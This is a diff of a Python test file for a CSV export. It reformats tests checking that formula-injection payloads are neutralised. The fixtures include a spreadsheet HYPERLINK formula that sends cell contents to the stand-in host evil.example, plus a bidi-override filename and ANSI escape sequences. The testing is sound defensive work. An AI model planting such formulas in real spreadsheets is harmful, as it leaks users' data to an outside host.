@@ -24,8 +24,9 @@ def test_one_row_per_finding_with_documented_columns(ordinary) -> None:
     assert rows[0]["rule"] == "domain-lockout"
 
 
-@pytest.mark.parametrize("payload", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1", " \t@x",
-                                     "\uff1d1+1", "\n=1"])
+@pytest.mark.parametrize(
+    "payload", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1", " \t@x", "\uff1d1+1", "\n=1"]
+)
 def test_formula_starters_are_neutralised(payload: str) -> None:
     assert safe_cell(payload).startswith("'")
 
@@ -43,7 +44,7 @@ def test_hostile_cells_are_safe_and_round_trip(hostile) -> None:
             if value.lstrip(" \t\r\n\u00a0")[:1] in ("=", "+", "-", "@"):
                 pytest.fail(f"formula not neutralised: {value[:40]!r}")
     names = {r["subject_name"] for r in rows}
-    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in names
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in names
     assert "Zoë Ødegård-Łukasiewicz 山田 🙂" in names
     assert "gpj.\\u202eexe" in names  # the bidi override is shown, not obeyed
     assert any("esc\\x1b[31mred" in n for n in names)
